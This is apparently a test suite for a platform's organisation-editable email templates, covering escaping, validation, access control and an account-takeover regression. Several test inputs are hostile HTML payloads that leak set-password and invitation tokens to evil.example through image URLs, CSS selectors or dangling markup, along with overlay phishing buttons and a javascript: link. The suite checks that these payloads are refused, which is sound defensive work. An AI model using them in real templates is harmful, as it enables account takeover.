import { eventually, Fixtures, Person, SmtpSink, TestApp } from '@tessera/testing';
import { newId } from '@tessera/common';
import { Organization } from '../src/identity/entities/organization.entity';
import { MessageKind, PLATFORM_KINDS } from '../src/notifications/message-kinds';
import { MessageTemplatesService } from '../src/notifications/message-templates.service';

const TEMPLATES = `query($org: UUID!) { messageTemplates(organizationId: $org) { kind subject isDefault variables updatedAt } }`;
const UPDATE = `mutation($input: UpdateMessageTemplateInput!) { updateMessageTemplate(input: $input) { template { kind subject isDefault } } }`;
const RESET = `mutation($input: ResetMessageTemplateInput!) { resetMessageTemplate(input: $input) { template { kind isDefault subject } } }`;
const PREVIEW = `query($input: PreviewMessageInput!) { previewMessage(input: $input) { subject html text } }`;

describe('message templates: edited at run time, previewed, refused when broken', () => {
  let t: TestApp;
  let organization: Organization;
  let admin: Person;

  beforeAll(async () => {
    t = await TestApp.create();
    ({ organization, admin } = await new Fixtures(t).organization('Template Org'));
  });
  afterAll(() => t.close());

  it('lists every kind with its default text and variables, and never offers an admin comment', async () => {
    const { messageTemplates } = await admin.client.ok(TEMPLATES, { org: organization.id });
    expect(messageTemplates.map((m: { kind: string }) => m.kind)).toEqual(
      Object.values(MessageKind).filter((kind) => !PLATFORM_KINDS.has(kind)),
    );
    expect(messageTemplates.every((m: { isDefault: boolean }) => m.isDefault)).toBe(true);
    const codeSent = messageTemplates.find((m: { kind: string }) => m.kind === 'CODE_SENT');
    expect(codeSent.variables).toEqual(expect.arrayContaining(['code', 'message', 'product.name', 'recipient.firstName']));
    expect(messageTemplates.flatMap((m: { variables: string[] }) => m.variables).some((v: string) => /comment/i.test(v))).toBe(false);
  });

  it('previews the default with sample data: HTML in the layout, plain text, subject', async () => {
    const { previewMessage } = await admin.client.ok(PREVIEW, { input: { organizationId: organization.id, kind: 'CODE_SENT' } });
    expect(previewMessage.subject).toBe('Your registration code for Sailing course');
    expect(previewMessage.html).toMatch(/^<!doctype html>/);
    expect(previewMessage.html).toContain('HB-K7M2-Q9XB');
    expect(previewMessage.text).toContain('Here is your registration code for Sailing course: HB-K7M2-Q9XB');
  });

  it('saves an override that messages then use, escaping what people typed, and resets it', async () => {
    const input = {
      organizationId: organization.id,
      kind: 'CODE_SENT',
      subject: '{{organization.name}}: your code {{code}}',
      html: '<h1>Hi {{recipient.firstName}}</h1>{{#if message}}<p>{{message}}</p>{{/if}}<p>{{code}}</p>',
      text: 'Hi {{recipient.firstName}}, your code is {{code}}.',
    };
    const { updateMessageTemplate } = await admin.client.ok(UPDATE, { input });
    expect(updateMessageTemplate.template).toMatchObject({ kind: 'CODE_SENT', isDefault: false });

    const rendered = await t.get(MessageTemplatesService).render(organization.id, MessageKind.CODE_SENT, {
      code: 'HBK7M2',
      organization: { name: 'Template Org' },
      recipient: { firstName: '<script>alert(1)</script>' },
      message: 'Tom & Jerry <b>bold</b>',
    });
    expect(rendered.subject).toBe('Template Org: your code HBK7M2');
    expect(rendered.html).toContain('<h1>Hi &lt;script&gt;alert(1)&lt;/script&gt;</h1>');
    expect(rendered.html).toContain('<p>Tom &amp; Jerry &lt;b&gt;bold&lt;/b&gt;</p>');
    expect(rendered.text).toBe('Hi <script>alert(1)</script>, your code is HBK7M2.\n');

    const { resetMessageTemplate } = await admin.client.ok(RESET, { input: { organizationId: organization.id, kind: 'CODE_SENT' } });
    expect(resetMessageTemplate.template).toMatchObject({ isDefault: true, subject: 'Your registration code for {{product.name}}' });
    const [{ n }] = await t.dataSource.query(`SELECT count(*)::int AS n FROM domain_event WHERE type = 'MessageTemplateChanged'`);
    expect(n).toBe(2);
  });

  it.each([
    ['a template that does not compile', { html: '<p>{{#if message}}unclosed</p>' }, 'html', /does not compile/],
    ['a variable the kind does not offer', { text: 'Comment: {{adminComment}}' }, 'text', /uses \{\{adminComment\}\}/],
    ['raw HTML output', { html: '<p>{{{message}}}</p>' }, 'html', /raw HTML/],
    ['a helper', { subject: '{{lookup recipient "email"}}' }, 'subject', /helpers are not available/],
    ['a partial', { html: '{{> footer}}' }, 'html', /partials/],
    ['an each block', { text: '{{#each recipient}}{{this}}{{/each}}' }, 'text', /#each/],
  ])('refuses %s with BAD_USER_INPUT naming the part', async (_, broken, part, message) => {
    const input = {
      organizationId: organization.id,
      kind: 'CODE_SENT',
      subject: 'S {{code}}',
      html: '<p>{{code}}</p>',
      text: '{{code}}',
      ...broken,
    };
    const error = await admin.client.fails(UPDATE, { input });
    expect(error.code).toBe('BAD_USER_INPUT');
    expect(error.extensions?.fields).toEqual(
      expect.arrayContaining([expect.objectContaining({ field: part, message: expect.stringMatching(message) })]),
    );
    const draft = await admin.client.fails(PREVIEW, { input: { organizationId: organization.id, kind: 'CODE_SENT', ...broken } });
    expect(draft.code).toBe('BAD_USER_INPUT');
    const { messageTemplates } = await admin.client.ok(TEMPLATES, { org: organization.id });
    expect(messageTemplates.find((m: { kind: string }) => m.kind === 'CODE_SENT').isDefault).toBe(true);
  });

  it.each(['SET_PASSWORD', 'GUESSING_LIMIT_REACHED'])('keeps Tessera’s own %s text out of the organisation’s hands', async (kind) => {
    const input = { organizationId: organization.id, kind, subject: 'S', html: '<p>x</p>', text: 'x' };
    for (const [operation, variables] of [
      [UPDATE, { input }],
      [PREVIEW, { input: { organizationId: organization.id, kind } }],
      [RESET, { input: { organizationId: organization.id, kind } }],
    ] as const) {
      const error = await admin.client.fails(operation, variables);
      expect(error.code).toBe('BAD_USER_INPUT');
      expect(error.extensions?.fields).toEqual([expect.objectContaining({ field: 'kind' })]);
    }
  });

  it('lets only the organisation’s admins see and change its texts', async () => {
    const { person } = await new Fixtures(t).member(organization);
    expect((await person.client.fails(TEMPLATES, { org: organization.id })).code).toBe('FORBIDDEN');
  });
});

describe('account links cannot leave through an organisation’s template (finding: account takeover)', () => {
  let t: TestApp;
  let smtp: SmtpSink;
  let organization: Organization;
  let admin: Person;
  let priceId: string;
  const ASSIGN = `mutation($input: AssignSeatsInput!) { assignSeats(input: $input) { seatsRemaining } }`;
  const INVITE = `mutation($input: InviteByEmailInput!) { inviteByEmail(input: $input) { seatsRemaining } }`;
  const mailTo = async (address: string) => {
    await eventually(() => expect(smtp.mailsTo(address)).toHaveLength(1));
    return smtp.mailsTo(address)[0];
  };
  const tokenIn = (text: string, path: string) => {
    const match = new RegExp(`https://lms\\.example\\.test/${path}\\?token=([A-Za-z0-9_-]+)`).exec(text);
    if (!match) throw new Error(`No ${path} link in:\n${text}`);
    return match[1];
  };
  const save = (kind: string, html: string, text = 'Welcome {{recipient.firstName}}') =>
    admin.client.fails(UPDATE, { input: { organizationId: organization.id, kind, subject: 'Welcome', html, text } });

  beforeAll(async () => {
    smtp = await SmtpSink.start();
    t = await TestApp.create({ env: { SMTP_URL: smtp.url, APP_URL: 'https://lms.example.test/' } });
    const fixtures = new Fixtures(t);
    ({ organization, admin } = await fixtures.organization('Org B'));
    ({
      price: { id: priceId },
    } = await fixtures.catalogue(organization, { productName: 'Course B' }));
    await fixtures.codes(organization, { quantity: 4, priceId });
  });
  afterAll(async () => {
    await t.close();
    await smtp.close();
  });

  it.each([
    ['the link inside an image address', 'ACCOUNT_CREATED', '<img src="https://evil.example/c?{{setPasswordUrl}}">'],
    ['the invitation link inside an image address', 'INVITATION', '<img src="https://evil.example/c?{{acceptUrl}}">'],
    ['a style sheet that reads the link', 'ACCOUNT_CREATED', '<style>a[href*="token=A"]{background:url(https://evil.example/A)}</style>'],
    ['a decorator', 'ACCOUNT_CREATED', '{{* decorator}}'],
    ['markup left open to swallow what follows', 'ACCOUNT_CREATED', '<p>Welcome</p><img src="https://evil.example/c?x='],
    [
      'a look-alike button laid over Tessera’s',
      'INVITATION',
      '<div style="position:fixed;top:0;left:0;width:100%;height:100%;background-color:#fff;z-index:9999"><a href="https://evil.example/accept">Accept the invitation</a></div>',
    ],
    [
      'a box shifted up over Tessera’s',
      'INVITATION',
      '<div style="margin-top:-400px"><a href="https://evil.example/accept">Accept</a></div>',
    ],
    ['a script link', 'INVITATION', '<a href="javascript:alert(1)">Accept</a>'],
  ])('refuses %s when saved', async (_, kind, html) => {
    const error = await save(kind, html);
    expect(error.code).toBe('BAD_USER_INPUT');
    expect(error.extensions?.fields).toEqual(expect.arrayContaining([expect.objectContaining({ field: 'html' })]));
  });

  it('puts the set-password link above the organisation’s text (with its own images), and nowhere else', async () => {
    const html = '<p>Welcome {{recipient.firstName}}</p><img src="https://evil.example/c.png" alt="">';
    await admin.client.ok(UPDATE, {
      input: {
        organizationId: organization.id,
        kind: 'ACCOUNT_CREATED',
        subject: 'Welcome',
        html,
        text: 'Welcome {{recipient.firstName}}',
      },
    });
    await admin.client.ok(ASSIGN, {
      input: { organizationId: organization.id, priceId, people: [{ email: 'victim@example.test', firstName: 'Vic', lastName: 'Tim' }] },
    });
    const mail = await mailTo('victim@example.test');
    const token = tokenIn(mail.text, 'set-password');
    const body = mail.html.indexOf('<p>Welcome Vic</p>');
    expect(body).toBeGreaterThan(0);
    expect(mail.html.split(token)).toHaveLength(2); // once: the button's address
    expect(mail.html.indexOf(token)).toBeLessThan(body);
    expect(mail.html.slice(body)).not.toContain(token);
    expect(mail.text.indexOf(token)).toBeLessThan(mail.text.indexOf('Welcome Vic'));
  });

  it('sends the default text while a text saved before these rules carries the link, and says why', async () => {
    // As an organisation could have saved it before: the invitation link inside an image address.
    await t.dataSource.query(
      `INSERT INTO message_template (id, organization_id, kind, subject, html, text) VALUES ($1, $2, 'INVITATION', 'Hi', $3, '{{acceptUrl}}')`,
      [newId(), organization.id, '<img src="https://evil.example/i?{{acceptUrl}}">'],
    );
    const { messageTemplates } = await admin.client.ok(
      `query($org: UUID!) { messageTemplates(organizationId: $org) { kind isDefault problems } }`,
      {
        org: organization.id,
      },
    );
    const invitation = messageTemplates.find((m: { kind: string }) => m.kind === 'INVITATION');
    expect(invitation.isDefault).toBe(false);
    expect(invitation.problems).toEqual(expect.arrayContaining([expect.stringMatching(/^html: uses \{\{acceptUrl\}\}/)]));

    await admin.client.ok(INVITE, { input: { organizationId: organization.id, priceId, emails: ['invitee@example.test'] } });
    const mail = await mailTo('invitee@example.test');
    expect(mail.subject).toBe('Org B invites you to Course B');
    expect(mail.html).not.toContain('evil.example');
    const token = tokenIn(mail.text, 'invitations/accept');
    expect(mail.html.split(token)).toHaveLength(2);
  });
});
